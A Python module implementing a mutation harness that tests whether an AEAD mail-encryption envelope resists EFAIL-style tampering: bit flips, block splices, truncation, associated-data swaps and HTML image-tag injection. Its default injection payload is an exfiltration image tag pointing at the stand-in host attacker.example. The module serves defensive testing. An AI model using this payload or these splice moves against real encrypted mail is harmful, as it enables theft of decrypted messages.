"""Ciphertext-mutation harness.

Applies the classic mail-encryption manipulation moves to sealed
envelopes: single-bit flips, 16-byte block splices and duplications,
truncation, HTML image-tag prefix injection (the direct-exfiltration
shape), and associated-data swaps between parts. Every mutation is applied
to a copy of the encoded envelope; the suite then records whether opening
rejected it and how many plaintext bytes escaped.

Against the AEAD pipeline the expected outcome is total rejection with
zero leaked bytes. The same suite pointed at an unauthenticated CBC
decryptor (see the test tree) happily accepts block splices, which is the
attack class this design removes.

CLI:

    efail-suite --message FILE [--strategies all|bit_flip,block_splice,...]
                [--samples N] [--seed N] [--out report.json]

The file's bytes are sealed under a fresh key and the suite runs against
that envelope. Exit status is non-zero iff any non-control mutation was
accepted.
"""

from __future__ import annotations

import argparse
import json
import random
import struct
import sys
from dataclasses import dataclass
from enum import Enum

from .errors import (
    AuthenticationFailed,
    MalformedEnvelope,
    OutOfBounds,
    UnsupportedVersion,
)
from .kernel import (
    NONCE_LEN,
    TAG_LEN,
    AssociatedData,
    Envelope,
    MessageKey,
    decode_envelope,
    encode_envelope,
    generate_key,
    open_envelope,
    seal,
)

BLOCK = 16  # cipher block granularity for splice/duplicate moves

DEFAULT_INJECT = b'<img src="http://attacker.example/'

_AD_LEN_OFFSET = 1 + NONCE_LEN
_AD_OFFSET = _AD_LEN_OFFSET + 4


class MutationKind(str, Enum):
    IDENTITY = "identity"  # control: must be accepted
    BIT_FLIP = "bit_flip"
    BLOCK_SPLICE = "block_splice"
    BLOCK_DUPLICATE = "block_duplicate"
    TRUNCATE = "truncate"
    HTML_PREFIX_INJECT = "html_prefix_inject"
    AD_SWAP = "ad_swap"


ATTACK_KINDS = [k for k in MutationKind if k is not MutationKind.IDENTITY]


@dataclass(frozen=True)
class Mutation:
    """One manipulation: kind plus a position (bit offset, byte offset,
    block index, or truncation length, depending on the kind)."""

    kind: MutationKind
    position: int = 0
    payload: bytes | None = None


@dataclass(frozen=True)
class MutationReport:
    mutation: Mutation
    rejected: bool
    error_kind: str | None
    leaked_bytes: int


def _regions(encoded: bytes) -> tuple[int, int, int]:
    """(ad_len, ciphertext_offset, ciphertext_len) of an encoded envelope."""
    if len(encoded) < _AD_OFFSET + TAG_LEN:
        raise OutOfBounds("buffer too small to locate regions")
    (ad_len,) = struct.unpack_from(">I", encoded, _AD_LEN_OFFSET)
    ct_offset = _AD_OFFSET + ad_len + TAG_LEN
    if ct_offset > len(encoded):
        raise OutOfBounds("declared AD length exceeds buffer")
    return ad_len, ct_offset, len(encoded) - ct_offset


def apply_mutation(encoded: bytes, mutation: Mutation, *, ct_offset: int | None = None) -> bytes:
    """Apply one mutation to a copy of the encoded buffer.

    ``ct_offset`` overrides where the ciphertext region starts; by default
    it is located from the envelope layout. Passing it lets the same moves
    run against other framings (the CBC baseline in the test tree).
    """
    kind = mutation.kind
    if kind is MutationKind.IDENTITY:
        return bytes(encoded)

    if kind is MutationKind.BIT_FLIP:
        if not 0 <= mutation.position < len(encoded) * 8:
            raise OutOfBounds(f"bit {mutation.position} outside {len(encoded)}-byte buffer")
        out = bytearray(encoded)
        out[mutation.position // 8] ^= 1 << (mutation.position % 8)
        return bytes(out)

    if kind is MutationKind.TRUNCATE:
        if not 1 <= mutation.position <= len(encoded):
            raise OutOfBounds(f"cannot drop {mutation.position} of {len(encoded)} bytes")
        return bytes(encoded[: len(encoded) - mutation.position])

    if ct_offset is None:
        _, ct_offset, ct_len = _regions(encoded)
    else:
        ct_len = len(encoded) - ct_offset

    if kind is MutationKind.BLOCK_SPLICE:
        first = ct_offset + mutation.position * BLOCK
        if mutation.position < 0 or first + 2 * BLOCK > len(encoded):
            raise OutOfBounds(f"no adjacent block pair at index {mutation.position}")
        out = bytearray(encoded)
        a = bytes(out[first : first + BLOCK])
        out[first : first + BLOCK] = out[first + BLOCK : first + 2 * BLOCK]
        out[first + BLOCK : first + 2 * BLOCK] = a
        return bytes(out)

    if kind is MutationKind.BLOCK_DUPLICATE:
        start = ct_offset + mutation.position * BLOCK
        if mutation.position < 0 or start + BLOCK > len(encoded):
            raise OutOfBounds(f"no block at index {mutation.position}")
        block = encoded[start : start + BLOCK]
        return encoded[: start + BLOCK] + block + encoded[start + BLOCK :]

    if kind is MutationKind.HTML_PREFIX_INJECT:
        payload = mutation.payload if mutation.payload is not None else DEFAULT_INJECT
        if not 0 <= mutation.position <= ct_len:
            raise OutOfBounds(f"offset {mutation.position} outside ciphertext")
        at = ct_offset + mutation.position
        return encoded[:at] + payload + encoded[at:]

    if kind is MutationKind.AD_SWAP:
        if mutation.payload is None:
            raise OutOfBounds("ad_swap needs replacement AD bytes")
        ad_len, ct_offset, _ = _regions(encoded)
        return (
            encoded[:_AD_LEN_OFFSET]
            + struct.pack(">I", len(mutation.payload))
            + mutation.payload
            + encoded[_AD_OFFSET + ad_len :]
        )

    raise OutOfBounds(f"unknown mutation kind {kind}")


def mutate(envelope: Envelope, mutation: Mutation) -> Envelope:
    """Structured-level view of apply_mutation.

    Raises MalformedEnvelope when the mutated bytes no longer decode, which
    truncation can produce by design.
    """
    return decode_envelope(apply_mutation(encode_envelope(envelope), mutation))


def _bumped_ad(encoded: bytes) -> bytes:
    """A plausible cross-part AD for single-envelope ad_swap runs: the same
    AD re-serialized at the neighbouring part index."""
    ad_len, _, _ = _regions(encoded)
    raw = encoded[_AD_OFFSET : _AD_OFFSET + ad_len]
    try:
        ad = AssociatedData.from_canonical(raw)
        return AssociatedData(
            message_id=ad.message_id,
            part_label="attachment",
            part_index=ad.part_index + 1,
            sender_id=ad.sender_id,
            content_type=ad.content_type,
        ).to_canonical()
    except MalformedEnvelope:
        return raw[::-1] if raw else b"\x00"


def generate_mutations(
    encoded: bytes,
    kinds: list[MutationKind] | None = None,
    *,
    samples: int = 10_000,
    exhaustive_bit_limit: int = 64,
    seed: int = 0,
    include_control: bool = True,
    ct_offset: int | None = None,
) -> list[Mutation]:
    """Build the mutation set for one envelope.

    Bit flips are exhaustive over the whole encoded buffer when its
    ciphertext is at most ``exhaustive_bit_limit`` bytes; otherwise a
    seeded sample of ``samples`` mutations is drawn across ``kinds``.
    """
    kinds = list(kinds) if kinds else list(ATTACK_KINDS)
    rng = random.Random(seed)
    if ct_offset is None:
        _, ct_offset, ct_len = _regions(encoded)
    else:
        ct_len = len(encoded) - ct_offset
    mutations: list[Mutation] = []
    if include_control:
        mutations.append(Mutation(MutationKind.IDENTITY))

    peer_ad = _bumped_ad(encoded) if MutationKind.AD_SWAP in kinds else b""

    def draw(kind: MutationKind) -> Mutation | None:
        if kind is MutationKind.BIT_FLIP:
            return Mutation(kind, rng.randrange(len(encoded) * 8))
        if kind is MutationKind.BLOCK_SPLICE:
            if ct_len < 2 * BLOCK:
                return None
            return Mutation(kind, rng.randrange(ct_len // BLOCK - 1))
        if kind is MutationKind.BLOCK_DUPLICATE:
            if ct_len < BLOCK:
                return None
            return Mutation(kind, rng.randrange(ct_len // BLOCK))
        if kind is MutationKind.TRUNCATE:
            return Mutation(kind, rng.randrange(1, len(encoded) + 1))
        if kind is MutationKind.HTML_PREFIX_INJECT:
            return Mutation(kind, rng.randrange(ct_len + 1))
        if kind is MutationKind.AD_SWAP:
            return Mutation(kind, 0, peer_ad)
        return None

    if ct_len <= exhaustive_bit_limit and MutationKind.BIT_FLIP in kinds:
        mutations.extend(
            Mutation(MutationKind.BIT_FLIP, bit) for bit in range(len(encoded) * 8)
        )
        for kind in kinds:
            if kind is MutationKind.BIT_FLIP:
                continue
            m = draw(kind)
            if m is not None:
                mutations.append(m)
        return mutations

    share, extra = divmod(samples, len(kinds))
    for kind in kinds:
        want = share + (extra if kind is kinds[0] else 0)
        for _ in range(want):
            m = draw(kind)
            if m is None:  # kind not applicable: spend the budget on flips
                m = Mutation(MutationKind.BIT_FLIP, rng.randrange(len(encoded) * 8))
            mutations.append(m)
    return mutations


def run_encoded_suite(
    encoded: bytes, opener, mutations: list[Mutation], *, ct_offset: int | None = None
) -> list[MutationReport]:
    """Generic engine: ``opener(bytes) -> plaintext`` must raise to reject."""
    reports = []
    for mutation in mutations:
        mutated = apply_mutation(encoded, mutation, ct_offset=ct_offset)
        try:
            plaintext = opener(mutated)
        except (AuthenticationFailed, MalformedEnvelope, UnsupportedVersion) as exc:
            reports.append(
                MutationReport(
                    mutation=mutation,
                    rejected=True,
                    error_kind=type(exc).__name__,
                    leaked_bytes=0,
                )
            )
        else:
            reports.append(
                MutationReport(
                    mutation=mutation,
                    rejected=False,
                    error_kind=None,
                    leaked_bytes=len(plaintext),
                )
            )
    return reports


def run_suite(
    envelope: Envelope,
    key: MessageKey,
    mutations: list[Mutation] | None = None,
    **generate_kwargs,
) -> list[MutationReport]:
    """Run the mutation suite against one envelope under the AEAD pipeline."""
    open_envelope(envelope, key)  # precondition: the control must open
    encoded = encode_envelope(envelope)
    if mutations is None:
        mutations = generate_mutations(encoded, **generate_kwargs)
    return run_encoded_suite(
        encoded, lambda data: open_envelope(decode_envelope(data), key), mutations
    )


def ad_swap_pair(env_a: Envelope, env_b: Envelope) -> tuple[Mutation, Mutation]:
    """Mutations exchanging the associated data of two envelopes."""
    return (
        Mutation(MutationKind.AD_SWAP, 0, env_b.ad_bytes),
        Mutation(MutationKind.AD_SWAP, 0, env_a.ad_bytes),
    )


# --- reporting ---------------------------------------------------------------


def summarize(reports: list[MutationReport]) -> dict:
    """Machine-readable totals; non-zero ``exit_status`` iff any non-control
    mutation was accepted."""
    if not reports:
        raise ValueError("no reports to summarize")
    ordered = sorted(reports, key=lambda r: (r.mutation.kind.value, r.mutation.position))
    by_kind: dict[str, dict] = {}
    accepted_attacks = []
    for report in ordered:
        kind = report.mutation.kind.value
        row = by_kind.setdefault(kind, {"total": 0, "rejected": 0, "accepted": 0})
        row["total"] += 1
        row["rejected" if report.rejected else "accepted"] += 1
        if not report.rejected and report.mutation.kind is not MutationKind.IDENTITY:
            accepted_attacks.append(
                {
                    "kind": kind,
                    "position": report.mutation.position,
                    "leaked_bytes": report.leaked_bytes,
                }
            )
    return {
        "total": len(ordered),
        "by_kind": by_kind,
        "accepted_attacks": accepted_attacks,
        "leaked_bytes_max": max(r.leaked_bytes for r in ordered if r.mutation.kind is not MutationKind.IDENTITY)
        if any(r.mutation.kind is not MutationKind.IDENTITY for r in ordered)
        else 0,
        "exit_status": 1 if accepted_attacks else 0,
    }


def format_summary(summary: dict) -> str:
    lines = [f"{'kind':<20} {'total':>8} {'rejected':>9} {'accepted':>9}"]
    for kind, row in sorted(summary["by_kind"].items()):
        lines.append(f"{kind:<20} {row['total']:>8} {row['rejected']:>9} {row['accepted']:>9}")
    lines.append(f"{'all':<20} {summary['total']:>8}")
    if summary["accepted_attacks"]:
        lines.append("ACCEPTED ATTACK MUTATIONS:")
        for item in summary["accepted_attacks"]:
            lines.append(f"  {item['kind']} at {item['position']} leaked {item['leaked_bytes']}B")
    else:
        lines.append("all attack mutations rejected, zero bytes leaked")
    return "\n".join(lines)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="efail-suite", description=__doc__.split("\n")[0])
    parser.add_argument("--message", required=True, help="file whose bytes are sealed and attacked")
    parser.add_argument(
        "--strategies",
        default="all",
        help="comma-separated mutation kinds, or 'all'",
    )
    parser.add_argument("--samples", type=int, default=10_000)
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--out", help="write the JSON summary here")
    args = parser.parse_args(argv)

    if args.strategies == "all":
        kinds = list(ATTACK_KINDS)
    else:
        try:
            kinds = [MutationKind(name.strip()) for name in args.strategies.split(",")]
        except ValueError as exc:
            parser.error(f"unknown strategy: {exc}")

    with open(args.message, "rb") as fh:
        plaintext = fh.read()

    key = generate_key()
    ad = AssociatedData(
        message_id="efail-suite",
        part_label="body",
        part_index=0,
        sender_id="efail-suite",
        content_type="application/octet-stream",
    )
    envelope = seal(plaintext, key, ad)
    reports = run_suite(envelope, key, samples=args.samples, seed=args.seed, kinds=kinds)
    summary = summarize(reports)

    print(format_summary(summary))
    if args.out:
        with open(args.out, "w", encoding="utf-8") as fh:
            json.dump(summary, fh, indent=2, sort_keys=True)
        print(f"summary written to {args.out}")
    return summary["exit_status"]


if __name__ == "__main__":
    sys.exit(main())
